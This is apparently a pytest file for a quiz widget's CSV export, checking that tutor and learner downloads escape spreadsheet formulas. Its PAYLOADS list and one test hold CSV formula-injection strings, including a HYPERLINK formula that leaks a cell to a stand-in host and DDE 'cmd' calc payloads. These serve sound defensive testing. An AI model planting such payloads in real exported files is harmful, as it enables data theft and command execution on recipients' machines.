"""The tutor's class CSV and the learner's own download: right rows, safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

import widgets as wr
from widgets.csvsafe import FORMULA_STARTS, safe_cell
from widgets.quizzes.export import COLUMNS, class_csv
from widgets.quizzes.identity import file_stem
from widgets.quizzes.session import reset_session
from widgets.quizzes.store import AnswerStore

REPO = Path(__file__).resolve().parents[1]

PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "Line one\nline two",
    "Line one\rline two\r\nline three",
    'Said "no" , kindly',
    "Zoë Ayodele",
    "plain",
]


def export(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "widgets", "export", *args],
        capture_output=True,
        text=True,
        timeout=60,
    )


def save(folder: Path, name: str, quiz: str, qid: str, answer: str, score: float = 1.0) -> None:
    AnswerStore(name, folder).save(
        quiz,
        qid,
        {
            "answer": answer,
            "correct": score == 1,
            "score": score,
            "attempts": 2,
            "time": "2026-11-24T10:00:00+00:00",
        },
    )


def test_class_csv_has_one_row_per_answer_and_keeps_bad_files_visible(tmp_path: Path) -> None:
    for name, score in (("Amir", 1.0), ("Beth Lee", 0.5)):
        save(tmp_path, name, "boundaries", "gift", "Say no, kindly", score)
        save(tmp_path, name, "seven", "q1", "GP")
    (tmp_path / "broken.json").write_text("{", encoding="utf-8")
    text, skipped = class_csv(tmp_path)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert list(rows[0]) == COLUMNS
    assert len(rows) == 4
    beth = [r for r in rows if r["learner"] == "Beth Lee" and r["quiz"] == "boundaries"][0]
    assert beth == {
        "learner": "Beth Lee",
        "quiz": "boundaries",
        "question_id": "gift",
        "answer": "Say no, kindly",
        "correct": "False",
        "score": "0.5",
        "attempts": "2",
        "time": "2026-11-24T10:00:00+00:00",
    }
    assert len(skipped) == 1 and "broken.json" in skipped[0]


def test_every_cell_a_spreadsheet_would_run_is_made_plain_text(tmp_path: Path) -> None:
    for n, payload in enumerate(PAYLOADS):
        save(tmp_path, f"Learner {n} {payload}"[:60], "quiz", f"q{n}", payload)
    text, skipped = class_csv(tmp_path)
    assert not skipped
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(PAYLOADS), "a line break inside a cell split a row"
    by_answer = {r["question_id"]: r["answer"] for r in rows}
    for n, payload in enumerate(PAYLOADS):
        got = by_answer[f"q{n}"]
        if payload.startswith(FORMULA_STARTS):
            assert got == "'" + payload
        else:
            assert got == payload
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(FORMULA_STARTS), cell
    # A second, independent parser (pandas' C reader) sees the same rows and cells.
    frame = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    assert len(frame) == len(PAYLOADS)
    assert sorted(frame["answer"]) == sorted(by_answer.values())


def test_safe_cell_leaves_numbers_and_ordinary_text_alone() -> None:
    assert safe_cell(0.5) == 0.5 and safe_cell(3) == 3 and safe_cell(True) is True
    assert safe_cell(-1) == "'-1"
    assert safe_cell("Sam") == "Sam" and safe_cell("") == ""
    assert safe_cell("2026-11-24") == "2026-11-24"
    for start in FORMULA_STARTS:
        assert safe_cell(f"{start}x") == f"'{start}x"


def test_the_learners_own_download_is_made_safe_too(answers_dir: Path) -> None:
    from widgets.quizzes.bank import read_bank
    from widgets.quizzes.quiz import quiz_from_bank

    name = "=cmd|' /C calc'!A0"
    reset_session(name, answers_dir)
    quiz = quiz_from_bank(read_bank(REPO / "tests" / "fixtures" / "sample-bank.yaml"), "sample")
    w = quiz.questions[2]
    w.choose(0)
    w.press_check()
    panel = wr.start()
    sent: list[dict] = []
    panel.send = lambda content, buffers=None: sent.append(content)
    panel._handle_message(panel, {"event": "export"}, [])
    (row,) = list(csv.DictReader(io.StringIO(sent[0]["csv"], newline="")))
    assert row["learner"] == "'" + name
    assert re.fullmatch(r"answers-[a-z0-9-]+\.csv", sent[0]["name"])


def test_export_command_writes_a_file_excel_reads_as_utf8(tmp_path: Path) -> None:
    save(tmp_path, "Zoë", "q", "a", "x")
    save(tmp_path, "Cy", "q", "a", "y")
    out = tmp_path / "class.csv"
    run = export(str(tmp_path), "-o", str(out))
    assert run.returncode == 0, run.stderr
    assert run.stdout.strip() == f"Wrote 2 answers from 2 learners to {out}."
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "a byte-order mark, so Excel reads UTF-8"
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert {r["learner"] for r in rows} == {"Zoë", "Cy"}
    saved = json.loads((tmp_path / f"{file_stem('Cy')}.json").read_text(encoding="utf-8"))
    assert saved["learner"] == "Cy"


def test_export_of_a_missing_folder_says_so_and_fails(tmp_path: Path) -> None:
    missing = tmp_path / "no-such-folder"
    run = export(str(missing), "-o", str(tmp_path / "class.csv"))
    assert run.returncode != 0
    assert f"There is no folder {missing}" in run.stderr
    assert not (tmp_path / "class.csv").exists()


@pytest.mark.parametrize(
    "contents", [{}, {"settings.json": '{"learner": "Sam"}', "notes.txt": "x"}]
)
def test_export_of_a_folder_without_answers_says_so_and_fails(
    tmp_path: Path, contents: dict[str, str]
) -> None:
    for name, text in contents.items():
        (tmp_path / name).write_text(text, encoding="utf-8")
    run = export(str(tmp_path), "-o", str(tmp_path / "class.csv"))
    assert run.returncode == 1
    assert f"No answers files in {tmp_path}" in run.stderr
    assert "settings.json" not in run.stderr, "a file that is not answers is not 'skipped'"
    assert "Wrote" not in run.stdout


def test_files_that_are_not_answers_are_not_reported_as_skipped(tmp_path: Path) -> None:
    save(tmp_path, "Dee", "q", "a", "x")
    (tmp_path / "settings.json").write_text('{"learner": "Dee"}', encoding="utf-8")
    (tmp_path / "package.json").write_text("[1, 2]", encoding="utf-8")
    run = export(str(tmp_path), "-o", str(tmp_path / "class.csv"))
    assert run.returncode == 0 and run.stderr == ""
    assert "Wrote 1 answers from 1 learner" in run.stdout


def test_no_csv_is_written_anywhere_but_through_the_safe_writer() -> None:
    writers = re.compile(r"csv\.(writer|DictWriter)\(|\.to_csv\(")
    found = [
        f"{p.relative_to(REPO)}"
        for folder in ("widgets", "scripts")
        for p in (REPO / folder).rglob("*.py")
        if p.name != "csvsafe.py" and writers.search(p.read_text(encoding="utf-8"))
    ]
    assert found == [], f"CSV written without widgets.csvsafe: {found}"
